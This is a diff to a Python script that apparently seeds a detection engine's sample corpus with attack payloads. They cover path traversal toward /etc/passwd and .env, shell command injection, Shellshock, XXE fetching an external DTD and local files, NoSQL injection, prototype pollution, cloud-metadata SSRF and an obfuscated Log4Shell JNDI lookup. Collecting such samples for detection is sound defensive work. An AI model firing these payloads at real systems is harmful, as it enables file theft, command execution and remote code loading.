@@ -246,5 +246,22 @@ if os.path.isdir(lists):
             for l in lines[:: max(1, len(lines) // 20)][:20]:
                 put("detect", "list-%d" % n, bytes([n % 5]) + l[:1024])
                 n += 1
+# file, shell and data-format classes: encodings, DTDs, operators
+for i, (where, v) in enumerate([
+        (2, b"f=..%c0%af..%c0%afetc%c0%afpasswd&g=%f0%80%80%ae%f0%80%80%ae/"),
+        (2, b"f=%uff0e%uff0e%u2215boot.ini&g=0x2e0x2e/0x2e0x2e/etc/passwd&h=..%00/"),
+        (2, b"f=php://filter/convert.base64-encode/resource=../.env"),
+        (2, b"c=;c'a't${IFS}/etc/passwd&d=|{ls,-la,/}&e=;/???/??t+/???/p??s??"),
+        (2, b"c=%26+dir+c:%5C&d=%7C+cmd.exe+/c+whoami&e=;w$()hoami"),
+        (3, b"() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+        (3, b"() { _; } >_[$($())] { id; }"),
+        (5, b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://x/e.dtd">%p;'
+            b'<!ENTITY x SYSTEM "file:///etc/passwd">]><r a="&x;"><![CDATA[x]]>&x;</r>'),
+        (5, b'<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><xi:include href="x"/>'),
+        (5, b'{"user":{"$ne":null},"$where":"sleep(1)","constructor":{"prototype":{"a":1}}}'),
+        (2, b"user[$regex]=.*&__proto__[admin]=1&x[constructor][prototype][y]=1"),
+        (2, b"u=http://169.254.169.254.nip.io/&v=//[fd00:ec2::254]/&w=0xa9fea9fe"),
+        (3, b"${${lower:j}${upper:\xc4\xb1}ndi:ldap://x/a}${env:A:-j}${sys:x}")]):
+    put("detect", "data-%d" % i, bytes([where - 1]) + v)
 with open(os.path.join(here, "..", "..", "deploy", "rules.yaml"), "rb") as f:
     put("rules", "default", f.read())
